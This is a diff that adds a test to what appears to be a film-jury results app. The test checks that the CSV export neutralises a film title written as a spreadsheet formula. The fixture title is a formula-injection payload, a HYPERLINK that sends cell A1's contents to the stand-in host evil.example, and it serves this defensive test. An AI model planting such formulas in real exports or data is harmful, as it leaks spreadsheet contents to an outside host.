@@ -185,3 +185,16 @@ def test_the_ranking_can_be_narrowed_to_a_tag_keeping_the_whole_rankings_positio
 
     assert jury.films[1].title in page
     assert all(film.title not in page for i, film in enumerate(jury.films) if i != 1)
+
+
+def test_a_title_written_as_a_formula_is_exported_as_text(app, jury, jury_round):
+    jury.films[0].title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    factories.make_review(
+        factories.make_assignment(jury_round, jury_round.entries[0], jury.jurors[0])
+    )
+
+    body = results.as_csv(results.results_of(jury_round)).decode("utf-8-sig")
+
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(body, newline=""))]
+    assert "'" + jury.films[0].title in titles
+    assert not any(title.startswith("=") for title in titles)
